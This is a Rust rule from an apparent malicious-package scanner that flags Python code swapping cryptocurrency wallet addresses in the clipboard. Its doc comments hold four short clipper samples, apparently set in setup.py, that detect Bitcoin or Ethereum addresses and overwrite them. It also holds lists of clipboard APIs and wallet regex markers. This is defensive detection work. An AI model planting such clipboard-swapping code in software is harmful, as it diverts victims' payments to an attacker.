//! ## What it detects
//!
//! Code that reads the clipboard, looks for addresses of wallets in it, and writes the clipboard; or that puts something
//! else in the place of such addresses, and writes the clipboard.
//!
//! ## Why it is bad
//!
//! It puts the attacker's address in the place of the one that was copied, and the payment goes there. `colourama` of
//! 2018 did so, and 451 names of February 2023, by way of an extension of the browser.
//!
//! ## Innocent lookalikes
//!
//! Managers of clipboards know no wallets, and libraries that check addresses have no business with the clipboard.
//!
//! ## Bad
//!
//! ```python setup.py
//! import re, pyperclip
//! while True:
//!     text = pyperclip.paste()
//!     if re.match('^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', text):
//!         pyperclip.copy('an address of somebody else')
//! ```
//!
//! ## Bad
//!
//! ```python setup.py
//! import tkinter
//! window = tkinter.Tk()
//! if window.clipboard_get().startswith('0x'):
//!     window.clipboard_clear()
//!     window.clipboard_append('0x00000000000000000000000000000000000000aa')
//! ```
//!
//! ## Bad
//!
//! ```python setup.py
//! import re
//! from pyperclip import copy, paste
//! if re.match(r'^0x[a-fA-F0-9]{40}$', paste()):
//!     copy('an address of somebody else')
//! ```
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import re, subprocess
//! WALLET = re.compile(r'\b(bc1[a-z0-9]{25,39}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b')
//! def copy(text):
//!     subprocess.run(['pbcopy'], input=WALLET.sub('an address of somebody else', text))
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import pyperclip
//! pyperclip.copy(pyperclip.paste().strip())
//! ```

use fondaco_python::{Api, Call, Unit};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("clipboard-swap"),
    title: "replaces wallet addresses in the clipboard",
    severity: Severity::High,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::Surveillance),
    weight: 1.5,
    check,
};

/// Ways to write the clipboard.
const WRITES: [&str; 9] = [
    "pyperclip.copy", "clipboard.copy", "SetClipboardData", "SetClipboardText", "clipboard_append", "pbcopy", "Set-Clipboard", "xclip",
    "wl-copy",
];
/// Commands that read it.
const READS: [&str; 5] = ["get-clipboard", "pbpaste", "xclip -o", "xclip -selection clipboard -o", "wl-paste"];

/// A pattern for addresses of a currency: a class of characters with the length of one.
fn has_wallet_pattern(unit: &Unit) -> bool {
    let lengths = ["{25,34}", "{25,39}", "{26,33}", "{26,34}", "{26,35}", "{33}", "{34}", "{39}", "{40}", "{41}", "{95}"];
    let marks = ["0x[", "bc1", "[13]", "T[", "^1", "^3", "^T", "^4", "^L", "^D", "^r", "^X", "^(1|3"];
    lengths.iter().any(|length| unit.text.contains(length)) && marks.iter().any(|mark| unit.text.contains(mark))
}

/// An address of Ethereum or Bitcoin, as a literal.
fn has_wallet(unit: &Unit) -> bool {
    let is_long = |text: &str, length: usize| text.len() >= length && text.bytes().all(|b| b.is_ascii_alphanumeric());
    unit.text.split(['"', '\'']).any(|text| {
        let hex = text.strip_prefix("0x").is_some_and(|rest| rest.len() == 40 && rest.bytes().all(|b| b.is_ascii_hexdigit()));
        hex || text.len() <= 62 && text.strip_prefix("bc1").is_some_and(|rest| is_long(rest, 35))
    })
}

/// Names of at least two currencies, and patterns for their addresses by how these begin.
fn names_currencies(unit: &Unit) -> bool {
    const NAMES: [&str; 9] = ["btc", "bitcoin", "eth", "ethereum", "ltc", "doge", "xmr", "monero", "trx"];
    const BEGINNINGS: [&str; 7] = ["^0x", "^bc1", "^(bc1", "^[13]", "^D[", "^T[", "^L["];
    let words: Vec<String> =
        unit.text.split(|c: char| !c.is_ascii_alphanumeric()).map(str::to_ascii_lowercase).collect();
    let named = NAMES.iter().filter(|name| words.iter().any(|word| word == *name)).count();
    let patterns = BEGINNINGS.iter().filter(|start| unit.text.contains(**start)).count();
    named >= 2 && patterns >= 2
}

fn is_command(call: &Call) -> bool {
    let command = || call.texts().join(" ").to_ascii_lowercase();
    call.api == Some(Api::Shell) && READS.iter().any(|read| command().contains(read))
}

fn writes_clipboard(call: &Call) -> bool {
    let runs = || call.texts().iter().any(|text| matches!(*text, "pbcopy" | "xclip" | "wl-copy" | "clip"));
    call.callee == "pyperclip.copy" || call.api == Some(Api::Shell) && runs()
}

fn writes(unit: &Unit) -> bool {
    WRITES.iter().any(|write| unit.text.contains(write)) || imports_copy(&unit.text)
}

/// `from pyperclip import copy, paste`.
fn imports_copy(text: &str) -> bool {
    let mut lines = text.lines().filter_map(|line| line.trim_start().strip_prefix("from ")?.split_once(" import "));
    lines.any(|(module, names)| {
        let has_copy = || names.split([',', ' ', '(', ')']).any(|name| name == "copy");
        matches!(module.trim(), "pyperclip" | "clipboard" | "pyperclip3") && has_copy()
    })
}

fn check(package: &Package<'_>, hits: &mut Hits) {
    for unit in package.units() {
        let reads = unit.calls.iter().find(|call| {
            call.callee == "pyperclip.paste" || call.callee.contains("GetClipboard") || call.callee.ends_with(".clipboard_get") || call.callee.ends_with("clipboard.paste") || is_command(call)
        });
        if let Some(call) = reads
            && writes(unit)
            && (has_wallet_pattern(unit) || has_wallet(unit) || names_currencies(unit))
        {
            hits.call(unit, call, "reads the clipboard, knows wallets, and writes it");
        } else if let Some(call) = unit.calls.iter().find(|call| writes_clipboard(call))
            && unit.text.contains(".sub(")
            && has_wallet_pattern(unit)
        {
            hits.call(unit, call, "puts something in the place of addresses of wallets, and writes the clipboard");
        }
    }
}
